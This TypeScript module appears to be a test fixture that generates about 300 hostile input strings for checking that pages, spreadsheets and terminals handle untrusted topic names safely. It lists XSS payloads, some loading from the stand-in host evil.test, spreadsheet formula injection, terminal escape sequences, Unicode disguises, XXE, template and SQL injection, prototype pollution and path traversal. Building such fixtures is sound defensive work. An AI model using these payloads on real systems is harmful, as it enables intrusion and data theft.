// 300 texts that somebody may send in the hope that a page, a spreadsheet or a terminal obeys them: what they are made of,
// and how it is dressed.

type Dress = (text: string) => string

interface Family {
  bodies: readonly string[]
  dresses: readonly Dress[]
}

/** Each sets window.pwned, changes the title or asks another host when it runs. */
const markup: Family = {
  bodies: [
    '<script>window.pwned=1</script>',
    '<script src="http://evil.test/x.js"></script>',
    '<img src=x onerror="window.pwned=1">',
    '<img src=http://evil.test/pixel>',
    '<svg onload="window.pwned=1">',
    '<svg><script>window.pwned=1</script></svg>',
    '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s>',
    '<iframe src="javascript:parent.pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<body onload="window.pwned=1">',
    '<details open ontoggle="window.pwned=1">x</details>',
    '<input autofocus onfocus="window.pwned=1">',
    '<video><source onerror="window.pwned=1"></video>',
    '<object data="http://evil.test/o"></object>',
    '<embed src="http://evil.test/e">',
    '<link rel=stylesheet href=http://evil.test/c.css>',
    '<style>@import "http://evil.test/s.css";</style>',
    '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    '<base href="http://evil.test/">',
    '<form action=http://evil.test/><button autofocus>x',
    '<math><mtext><style><img src=x onerror="window.pwned=1">',
    '<title>pwned</title>',
    '<template><script>window.pwned=1</script></template>',
    '<a href="javascript:window.pwned=1" autofocus>x</a>',
    '<marquee onstart="window.pwned=1">x</marquee>',
  ],
  dresses: [
    (text) => text,
    (text) => `">${text}`,
    (text) => `'>${text}<'`,
    (text) => `</textarea></title></style></script>-->${text}`,
  ],
}

/** What a spreadsheet would compute. */
const formulas: Family = {
  bodies: [
    '1+1',
    'cmd|"/C calc"!A0',
    'HYPERLINK("http://evil.test/","x")',
    'IMPORTXML("http://evil.test/","//a")',
    'SUM(1,1)*WEBSERVICE("http://evil.test/")',
  ],
  dresses: ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', ' =', '"=\''].map(
    (start): Dress =>
      (text) =>
        start + text,
  ),
}

/** What steers a terminal: clears it, names its window, writes its clipboard, hides what was printed. */
const control: Family = {
  bodies: [
    '\x1b[2J\x1b[H',
    '\x1b]0;pwned\x07',
    '\x1b]52;c;cHduZWQ=\x07',
    '\x1b[31mred',
    '\x1b[8mhidden',
    '\x1b[1A\x1b[2K',
    '\x1b]8;;http://evil.test/\x1b\\link\x1b]8;;\x1b\\',
    '\x1bP+q\x1b\\',
    '\x1b[6n',
    '\x1bc',
    '\x9b2J',
    '\x9d0;pwned\x9c',
    '\x07\x08\x08\x08',
    '\r\x1b[Kpassed',
    '\x7f\x0b\x0c',
  ],
  dresses: [(text) => text, (text) => `a${text}b`, (text) => `ok\n${text}`, (text) => text + text],
}

/** What looks otherwise than it is. */
const disguises: Family = {
  bodies: [
    '\u202egnp.exe',
    '\u2066x\u2069',
    'out\u200bTopic',
    '\ufeffTopic',
    '\u00adTopic',
    '\u2028window.pwned=1',
    '\u2029window.pwned=1',
    '\ufffe\uffff',
    '\u{e0041}\u{e0042}',
    'e\u0301\u0301\u0301\u0301',
  ],
  dresses: [(text) => text, (text) => `ana ${text}`, (text) => `${text}<b>`],
}

/** What a diagram, Markdown, a template or a query would read as its own. */
const languages: Family = {
  bodies: [
    'x;click A href "javascript:pwned"',
    'end\n  participant X as pwned',
    '%%{init: {"securityLevel": "loose"}}%%',
    ']]><script>window.pwned=1</script><![CDATA[',
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    '[x](javascript:window.pwned=1)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what is sent
    '${window.pwned=1}{{constructor.constructor("window.pwned=1")()}}',
    '"; DROP TABLE students; --',
    '{"__proto__":{"pwned":1}}',
    '{"constructor":{"prototype":{"pwned":1}}}',
  ],
  dresses: [(text) => text, (text) => `"${text}`, (text) => `<!--${text}-->`],
}

/** Addresses and file names. */
const places: Family = {
  bodies: [
    'javascript:window.pwned=1',
    'JaVaScRiPt:window.pwned=1//',
    'data:text/html,<script>parent.pwned=1</script>',
    'vbscript:msgbox(1)',
    '//evil.test/x',
    'http://evil.test/x',
    '../../../../etc/passwd',
    'C:\\Windows\\system32\\x.bat',
    'CON.txt',
    'file:///etc/passwd',
  ],
  dresses: [(text) => text, (text) => `  ${text}`, (text) => `x" href="${text}`],
}

export const families: Readonly<Record<string, Family>> = {
  markup,
  formulas,
  control,
  disguises,
  languages,
  places,
}

export const hostile: readonly string[] = Object.values(families).flatMap(({ bodies, dresses }) =>
  bodies.flatMap((body) => dresses.map((dress) => dress(body))),
)

/** As it may stand in a topic name: without wildcards, U+0000 and half characters. */
export const toTopicPart = (text: string): string => text.replace(/[+#\0]/g, '')
